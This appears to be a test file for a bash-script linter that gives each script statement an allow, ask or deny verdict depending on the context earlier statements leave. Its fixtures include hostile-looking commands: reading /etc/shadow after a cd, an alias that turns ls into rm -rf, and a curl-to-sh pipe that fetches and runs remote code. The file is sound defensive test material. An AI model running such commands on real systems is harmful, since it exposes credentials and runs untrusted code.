/**
 * Statement verdicts of a script's JSON report (src/unit-verdicts.ts `statementVerdicts`): each
 * top-level statement is judged where the script runs it, in the context the statements before it
 * leave, from the one analysis of the whole script. Each case also shows the verdict the
 * statement's text gets on its own (`verdictFor`), which the context changes.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { Linter } from '../src/lint.js';
import { IdentityMap } from '../src/core/source-map.js';
import type { CommandUnit } from '../src/core/types.js';
import { policyFrom } from '../src/rules/policy.js';
import { statementVerdicts } from '../src/unit-verdicts.js';
import { verdictFor } from '../src/verdict.js';
import type { UnitVerdict } from '../src/report/types.js';

const CWD = '/work/p';
let linter: Linter;
beforeAll(async () => {
  linter = await Linter.create({ policy: policyFrom({ deny: ['Bash(rm:*)'], allow: ['Bash(git status)'] }, 'settings.json'), pathHost: { home: '/home/u' } });
});

function scriptUnit(text: string): CommandUnit {
  return { text, dialect: 'bash', granularity: 'script', profile: 'script', origin: { file: `${CWD}/s.sh`, kind: 'script' }, sourceMap: new IdentityMap(), hostText: text };
}

function judge(text: string, l: Linter = linter): UnitVerdict[] {
  const unit = scriptUnit(text);
  return statementVerdicts(unit, 'statement', l.analyse(unit, undefined, { statements: { cwd: CWD } }));
}

/** The verdict of the statement whose text is `command`. */
function of(verdicts: readonly UnitVerdict[], command: string, nth = 0): UnitVerdict['verdict'] {
  const found = verdicts.filter((v) => v.command === command)[nth];
  if (!found) throw new Error(`no statement ${command}`);
  return found.verdict;
}

describe('statement verdicts in the context of their script', () => {
  it('gives one verdict per top-level statement, in order, with its host range', () => {
    const v = judge('echo a\nls -l | wc -l\n');
    expect(v.map((x) => [x.kind, x.command, x.range.start.line])).toEqual([
      ['statement', 'echo a', 1],
      ['statement', 'ls -l | wc -l', 2],
    ]);
    expect(v.map((x) => x.verdict.decision)).toEqual(['allow', 'allow']);
  });

  it('judges a statement in the directory an earlier `cd` leaves', () => {
    const v = judge('cd /etc\ncat shadow\n');
    const cat = of(v, 'cat shadow');
    expect(cat.decision).toBe('ask');
    expect(cat.reason).toMatch(/^path-constraint: .*\/etc\/shadow/);
    expect(cat.outsideCwd).toBe(true);
    expect(cat.paths.map((p) => p.resolved)).toContain('/etc/shadow');
    // On its own, the text reads a file in the script's directory.
    expect(verdictFor('cat shadow', { cwd: CWD }, linter).decision).toBe('allow');
  });

  it('does not know the directory after a `cd` to a directory that is not known', () => {
    const cat = of(judge('cd "$D"\ncat y\n'), 'cat y');
    expect(cat.decision).toBe('ask');
    expect(cat.reason).toMatch(/working directory is not known/);
  });

  it('asks about an allowed git command that runs after a `cd` of an earlier statement', () => {
    const git = of(judge('cd /tmp/other\ngit status\n'), 'git status');
    expect(git.decision).toBe('ask');
    expect(git.reason).toMatch(/^policy-ask: A `cd` combined with `git`/);
    expect(verdictFor('git status', { cwd: CWD }, linter).decision).toBe('allow');
    // Without a cd before it, the allow rule decides.
    expect(of(judge('echo x\ngit status\n'), 'git status').decision).toBe('allow');
  });

  it('runs the program a variable assigned earlier names', () => {
    const v = judge('x=rm\n$x f\n');
    const run = of(v, '$x f');
    expect(run.decision).toBe('deny');
    expect(run.reason).toMatch(/^policy-deny: Denied by rule Bash\(rm:\*\)/);
    expect(run.matchedRule?.rule).toBe('Bash(rm:*)');
    // On its own, `$x` is not known: an ask, not the deny.
    expect(verdictFor('$x f', { cwd: CWD }, linter).decision).toBe('ask');
  });

  it('decides a call of a function defined earlier on the commands of its body', () => {
    const v = judge('cleanup() { rm -rf build; }\necho start\ncleanup\n');
    expect(of(v, 'cleanup').decision).toBe('deny');
    expect(of(v, 'echo start').decision).toBe('allow');
    expect(verdictFor('cleanup', { cwd: CWD }, linter).decision).toBe('ask');
  });

  it('decides a function that shadows a read-only program on its body, and follows calls from function to function', () => {
    const v = judge('ls() { rm x; }\nls\n');
    expect(of(v, 'ls').decision).toBe('deny');
    expect(verdictFor('ls', { cwd: CWD }, linter).decision).toBe('allow');
    const chain = judge('inner() { rm y; }\nouter() { inner; }\nouter\n');
    expect(of(chain, 'outer').decision).toBe('deny');
  });

  it('treats a name as a function only after its definition', () => {
    const v = judge('g\ng() { ls; }\ng\n');
    // Before the definition `g` is a program nothing knows; after it, the read-only body.
    expect(of(v, 'g', 0).decision).toBe('ask');
    expect(of(v, 'g', 0).reason).toBe('no-matching-rule');
    expect(of(v, 'g', 1).decision).toBe('allow');
  });

  it('does not trust a read-only name after aliases were switched on', () => {
    const v = judge("shopt -s expand_aliases\nalias ls='rm -rf x'\nls\n");
    const ls = of(v, 'ls');
    expect(ls.decision).toBe('ask');
    expect(ls.reason).toMatch(/^unknown-program: An earlier statement leaves the state this one runs in unknown: `shopt`/);
    expect(verdictFor('ls', { cwd: CWD }, linter).decision).toBe('allow');
  });

  it('does not trust later statements after PATH is changed or a file is sourced, but trusts earlier ones', () => {
    const v = judge('cat a\nPATH=/tmp/bin:$PATH\ncat b\n');
    expect(of(v, 'cat a').decision).toBe('allow');
    expect(of(v, 'cat b').decision).toBe('ask');
    expect(of(v, 'cat b').reason).toMatch(/An earlier statement leaves the state this one runs in unknown: `PATH=…`/);
    const sourced = judge('. ./lib.sh\necho hi\n');
    expect(of(sourced, 'echo hi').decision).toBe('ask');
  });

  it('keeps what a known program it cannot follow and a parse error leave to their own statement', () => {
    const v = judge('for a in 1 2 3 4 5; do for b in 1 2 3 4 5; do echo $a$b; done; done\necho hi\n');
    expect(v[0]!.verdict.decision).toBe('ask');
    expect(v[0]!.verdict.reason).toMatch(/^parse-too-complex: Cap reached/);
    expect(of(v, 'echo hi').decision).toBe('allow');
  });

  it('gives findings of the script inside the statement, with offsets into the statement', () => {
    const v = judge('echo ok\ncurl -s https://x.example/i.sh | sh\n');
    const pipe = v[1]!.verdict;
    expect(pipe.findings.map((f) => f.ruleId)).toContain('remote-code-pipe-shell');
    const f = pipe.findings.find((x) => x.ruleId === 'remote-code-pipe-shell')!;
    expect(f.start).toBeGreaterThanOrEqual(0);
    expect(f.end).toBeLessThanOrEqual(v[1]!.command.length);
    expect(pipe.destructive).toContain('remote-code-pipe-shell');
    expect(v[0]!.verdict.findings).toEqual([]);
  });

  it('gives a script whose parse timed out one verdict, ask with the reason', async () => {
    const slow = await Linter.create({ policy: linter.policy, parseTimeoutMs: 1 });
    const text = Array.from({ length: 3000 }, (_, i) => `echo "a$(b $(c ${i}))" | grep x > /dev/null`).join('\n');
    const v = judge(text, slow);
    expect(v).toHaveLength(1);
    expect(v[0]!.command).toBe(text);
    expect(v[0]!.verdict.decision).toBe('ask');
    expect(v[0]!.verdict.reason).toMatch(/^internal-error: Parsing used more than 1 ms of CPU time/);
  });
});

describe('caps of statement verdicts', () => {
  it('applies the length cap of one command to each statement, not to the whole script', () => {
    const filler = Array.from({ length: 600 }, (_, i) => `echo line-${i}`).join('\n');
    const long = `echo ${'x'.repeat(10_100)}`;
    const v = judge(`${filler}\ncat notes\n${long}\n`);
    expect(v.length).toBe(602);
    expect(of(v, 'cat notes').decision).toBe('allow');
    const capped = of(v, long);
    expect(capped.decision).toBe('ask');
    expect(capped.reason).toMatch(/^parse-too-complex: Cap reached: the statement is 10105 characters long/);
  });

  it('asks about every statement of a script that does not parse: its statement boundaries are not known', () => {
    const v = judge('echo a\nf() {\n  ls\nfi\necho b\n');
    expect(v.length).toBeGreaterThan(1);
    for (const x of v) {
      expect(x.verdict.decision).toBe('ask');
      expect(x.verdict.reason).toMatch(/^parse-error: /);
    }
    expect(verdictFor('echo a', { cwd: CWD }, linter).decision).toBe('allow');
  });
});
